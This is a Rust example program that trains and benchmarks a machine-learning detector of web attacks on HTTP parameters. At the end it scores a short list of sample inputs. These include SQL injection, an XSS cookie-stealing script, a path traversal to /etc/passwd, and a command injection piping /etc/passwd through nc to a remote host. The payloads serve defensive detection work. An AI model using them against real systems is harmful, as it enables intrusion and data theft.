//! Trains the web-attack model on the hash-split training side of the HttpParams dev set and
//! reports validation metrics, the token baseline, training time and scoring speed.
//!
//! `cargo run --release -p haechi-ml --example web_report [-- out.model]`

use std::time::Instant;

use haechi_ml::{
    WEB_DEV_CSV, WebBaseline, WebModel, evaluate_web, load_web_csv, sha256,
    split_web_train_validation,
};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let t = Instant::now();
    let samples = load_web_csv(WEB_DEV_CSV)?;
    let file_sha = sha256::to_hex(&sha256::sha256(&std::fs::read(WEB_DEV_CSV)?));
    println!(
        "loaded {} rows in {:?} (file sha256 {file_sha})",
        samples.len(),
        t.elapsed()
    );
    let (train, valid) = split_web_train_validation(&samples, 20);
    println!("train {} / validation {}", train.len(), valid.len());

    let cfg = WebModel::default_config();
    let t = Instant::now();
    let mut model = WebModel::train(&train, &cfg);
    let train_time = t.elapsed();
    let m = evaluate_web(&model, &valid);
    let b = WebBaseline.evaluate(&valid);
    let train_m = evaluate_web(&model, &train);
    println!("training: {train_time:?} ({} epochs)", cfg.epochs);
    println!(
        "model    valid: acc {:.4} macro-F1 {:.4} AUC {:.4}  (train acc {:.4})  {:?}",
        m.accuracy,
        m.macro_f1,
        m.auc.unwrap_or(f64::NAN),
        train_m.accuracy,
        m.confusion
    );
    println!(
        "baseline valid: acc {:.4} macro-F1 {:.4} AUC {:.4}  {:?}",
        b.accuracy,
        b.macro_f1,
        b.auc.unwrap_or(f64::NAN),
        b.confusion
    );

    // Per attack type on validation: share classified correctly.
    let mut by: std::collections::BTreeMap<String, (u32, u32, u32)> = Default::default();
    for s in &valid {
        let e = by
            .entry(s.attack_type.clone().unwrap_or_default())
            .or_default();
        e.0 += 1;
        e.1 += ((model.score(&s.payload) >= 0.5) == s.is_attack) as u32;
        e.2 += (WebBaseline::is_attack(&s.payload) == s.is_attack) as u32;
    }
    for (k, (n, ok, bok)) in &by {
        println!(
            "  {k:<15} n={n:<5} model correct {:.4}  baseline correct {:.4}",
            *ok as f64 / *n as f64,
            *bok as f64 / *n as f64
        );
    }

    let payloads: Vec<&str> = valid.iter().map(|s| s.payload.as_str()).collect();
    let mut acc = 0.0f32;
    let rounds = 20;
    let t = Instant::now();
    for _ in 0..rounds {
        for p in &payloads {
            acc += model.score(std::hint::black_box(p));
        }
    }
    let ns = t.elapsed().as_nanos() as f64 / (rounds * payloads.len()) as f64;
    let mean_len = payloads.iter().map(|p| p.len()).sum::<usize>() as f64 / payloads.len() as f64;
    println!("scoring: {ns:.0} ns/payload, mean {mean_len:.0} bytes (checksum {acc:.1})");

    for p in [
        "id=42&page=2",
        "1' OR '1'='1' -- ",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd | nc 10.0.0.1 4444",
        "calle del llenguadoc s/n, 6e",
    ] {
        let top: Vec<String> = model
            .explain(p)
            .iter()
            .take(5)
            .map(|(f, c)| format!("{f}={c:+.2}"))
            .collect();
        println!("{p:<42} {:.4}  {}", model.score(p), top.join(" "));
    }

    model.meta_mut().validation_metrics = Some(m.clone());
    model.meta_mut().baseline_metrics = Some(b);
    model.meta_mut().source = Some(format!("httpparams_payload_train.csv sha256 {file_sha}"));
    println!("{}", serde_json::to_string_pretty(&m)?);
    if let Some(out) = std::env::args().nth(1) {
        model.save(&out)?;
        println!("saved {out} ({} bytes)", std::fs::metadata(&out)?.len());
    }
    Ok(())
}
